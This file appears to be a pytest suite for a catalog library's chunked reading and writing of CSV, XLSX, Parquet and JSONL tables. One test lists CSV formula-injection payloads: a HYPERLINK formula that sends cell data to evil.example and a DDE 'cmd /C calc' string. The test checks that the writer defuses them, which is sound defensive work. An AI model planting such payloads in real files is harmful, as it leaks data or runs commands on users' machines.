"""Chunked reading and writing: every format gives, chunk by chunk, what read_table gives whole."""

from __future__ import annotations

import pandas as pd
import pyarrow as pa
import pytest

from catalog import formats
from catalog.errors import InvalidUpload, UnsupportedFormat, UploadTooLarge
from catalog.streaming import as_text_chunk, format_of, open_table, open_writer

FRAME = pd.DataFrame({
    "姓名": ["张伟", "李娜", None, "欧阳娜娜", "王芳"],
    "编号": ["007", "", "012", "3,5", '说"好"'],
    "备注": ["第一行\n第二行", "无", "无", None, "=1+1"],
})


def _frame(table: pa.Table) -> pd.DataFrame:
    return pd.DataFrame({n: pd.array(table.column(n), dtype="str") for n in table.column_names})


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet", "jsonl"])
def test_chunks_read_and_write_like_the_whole_table(tmp_path, fmt):
    data = formats.write_table(FRAME, fmt=fmt)
    source = tmp_path / f"in.{fmt}"
    source.write_bytes(data)
    with open_table(source, chunk_rows=2) as reader:
        chunks = list(reader)
        assert reader.fmt == fmt and reader.columns == list(FRAME.columns)
        assert [c.num_rows for c in chunks] == [2, 2, 1]
        with open_writer(tmp_path / f"out.{fmt}", fmt=fmt, columns=reader.columns) as writer:
            for chunk in chunks:
                writer.write(chunk)
    expected = formats.read_table(data, fmt=fmt)
    pd.testing.assert_frame_equal(_frame(pa.concat_tables(chunks)), expected)
    written = (tmp_path / f"out.{fmt}").read_bytes()
    if fmt == "csv":  # CSV out defuses what a spreadsheet would run as a formula
        expected["备注"] = expected["备注"].replace({"=1+1": "'=1+1"})
    pd.testing.assert_frame_equal(formats.read_table(written, fmt=fmt), expected)


def test_gbk_csv_is_detected_and_progress_is_reported(tmp_path):
    source = tmp_path / "gbk.csv"
    source.write_bytes(formats.write_table(FRAME, fmt="csv").decode().encode("gbk"))
    with open_table(source, chunk_rows=10) as reader:
        assert reader.encoding == "gb18030"
        assert _frame(pa.concat_tables(list(reader)))["姓名"].tolist()[:2] == ["张伟", "李娜"]
        assert reader.position == reader.total == source.stat().st_size


def test_parquet_is_read_batch_by_batch(tmp_path):
    import pyarrow.parquet as pq

    table = pa.table({"n": [str(i) for i in range(1000)]})
    pq.write_table(table, tmp_path / "t.parquet", row_group_size=300)
    with open_table(tmp_path / "t.parquet", chunk_rows=250) as reader:
        sizes = [c.num_rows for c in reader]
        assert max(sizes) <= 250 and sum(sizes) == 1000 and reader.position == 1000


@pytest.mark.parametrize(("name", "content", "error", "match"), [
    ("a.csv", b"a,b\n1,2\n3\n", InvalidUpload, "malformed CSV"),
    # GBK, then a byte that is no character, far past the first block read
    ("a.csv", ("名,值\n" + "张三,1\n" * 200_000).encode("gbk") + b"\xff\n", InvalidUpload,
     "not UTF-8 or GBK text"),
    ("a.csv", b"a,a\n1,2\n", InvalidUpload, "duplicate column"),
    ("a.csv", b"", InvalidUpload, "empty"),
    ("a.jsonl", b'{"a": 1}\n[1]\n', InvalidUpload, "line 2"),
    ("a.xls", b"x", UnsupportedFormat, "xls"),
    ("a.parquet", b"PAR1 not really PAR1", InvalidUpload, "Parquet"),
])
def test_bad_files_are_refused(tmp_path, name, content, error, match):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(error, match=match), open_table(path) as reader:
        list(reader)


def test_a_failed_write_leaves_no_file(tmp_path):
    target = tmp_path / "out.csv"
    with pytest.raises(RuntimeError), open_writer(target, fmt="csv", columns=["a"]) as writer:
        writer.write(pa.table({"a": ["1"]}))
        raise RuntimeError("boom")
    assert not target.exists() and not (tmp_path / "out.csv.partial").exists()
    assert format_of("x.PQ") == "parquet"


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet", "jsonl"])
def test_a_stored_payload_is_read_and_written_in_chunks(tmp_path, fmt):
    from catalog.store import EncryptedFileStore
    from catalog.streaming import open_sink_writer, open_table_source

    store = EncryptedFileStore(tmp_path, key=bytes(32))
    digest = store.put(formats.write_table(FRAME, fmt=fmt))
    with open_table_source(lambda: store.open(digest), fmt=fmt, chunk_rows=2) as reader:
        with store.create() as out:
            with open_sink_writer(out, fmt=fmt, columns=reader.columns) as writer:
                for chunk in reader:
                    writer.write(chunk)
            written = out.finish()
            out.commit()
    assert reader.columns == list(FRAME.columns) and writer.rows == len(FRAME)
    expected = formats.read_table(store.get(digest), fmt=fmt)
    if fmt == "csv":  # CSV out defuses what a spreadsheet would run as a formula
        expected["备注"] = expected["备注"].replace({"=1+1": "'=1+1"})
    pd.testing.assert_frame_equal(formats.read_table(store.get(written), fmt=fmt), expected)


def test_gbk_after_the_first_megabyte_is_still_gbk(tmp_path):
    source = tmp_path / "late.csv"
    ascii_rows = "".join(f"{i},x\r\n" for i in range(200_000))  # > 1 MiB of ASCII
    source.write_bytes(("a,b\r\n" + ascii_rows + "9,张伟\r\n").encode("gbk"))
    with open_table(source, chunk_rows=100_000) as reader:
        assert reader.encoding == "gb18030"
        assert pa.concat_tables(list(reader)).column("b")[-1].as_py() == "张伟"


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?x="&A2,"点击")', "'=HYPERLINK"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("\t=1+1", "'\t=1+1"),
    ("+86 138****5678", "'+86 138****5678"),   # a spreadsheet would try to compute it too
    ("-12.5", "-12.5"), ("+3e4", "+3e4"),        # plain numbers stay numbers
    ("市民张*反映=问题", "市民张*反映=问题"),     # not at the start: no formula
])
def test_csv_out_defuses_what_a_spreadsheet_would_run(tmp_path, value, written):
    target = tmp_path / "out.csv"
    with open_writer(target, fmt="csv", columns=["=备注", "n"]) as writer:
        writer.write(pa.table({"=备注": [value], "n": ["1"]}))
    lines = target.read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith("'=备注")
    assert written in lines[1] and (written.startswith("'") or f"'{value}" not in lines[1])


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_other_formats_keep_values_as_they_are(tmp_path, fmt):
    target = tmp_path / f"out.{fmt}"
    with open_writer(target, fmt=fmt, columns=["备注"]) as writer:
        writer.write(pa.table({"备注": ["=1+1"]}))
    with open_table(target) as reader:
        assert [v for chunk in reader for v in chunk.column("备注").to_pylist()] == ["=1+1"]


def test_rows_read_elsewhere_become_a_chunk_like_the_readers_give():
    chunk = as_text_chunk(pa.table({"金额": [12.5, None], "备注": ["", "好"]}))
    assert chunk.column("金额").to_pylist() == ["12.5", None]
    assert chunk.column("备注").to_pylist() == [None, "好"]
    with pytest.raises(InvalidUpload, match=r"^column '备注': a control character"):
        as_text_chunk(pa.table({"备注": ["ok", "bad\x01"]}))
    with pytest.raises(UploadTooLarge, match=r"^column '备注': a value longer"):
        as_text_chunk(pa.table({"备注": ["x" * 131_073]}))


def test_an_xlsx_writer_names_its_sheet_and_writes_a_second_one_alongside():
    import io

    import openpyxl

    from catalog import open_sink_writer

    sink = io.BytesIO()
    with open_sink_writer(sink, fmt="xlsx", columns=["代码", "名称"], sheet="信息资源") as first:
        second = first.add_sheet("信息项", ["代码", "信息项名称"])
        first.write(pa.table({"代码": ["1"], "名称": ["=1+1"]}))
        second.write(pa.table({"代码": ["1", "1"], "信息项名称": ["姓名", "金额"]}))
        first.write(pa.table({"代码": ["2"], "名称": ["名录"]}))
        second.close()  # does nothing: the first writer saves the workbook
    book = openpyxl.load_workbook(io.BytesIO(sink.getvalue()))
    assert book.sheetnames == ["信息资源", "信息项"]
    assert [[c.value for c in row] for row in book["信息资源"].iter_rows()] == [
        ["代码", "名称"], ["1", "=1+1"], ["2", "名录"]]
    assert book["信息资源"]["B2"].data_type == "s"  # text, never a formula
    assert book["信息项"].max_row == 3
    with pytest.raises(UnsupportedFormat):
        open_sink_writer(io.BytesIO(), fmt="csv", columns=["a"], sheet="x")
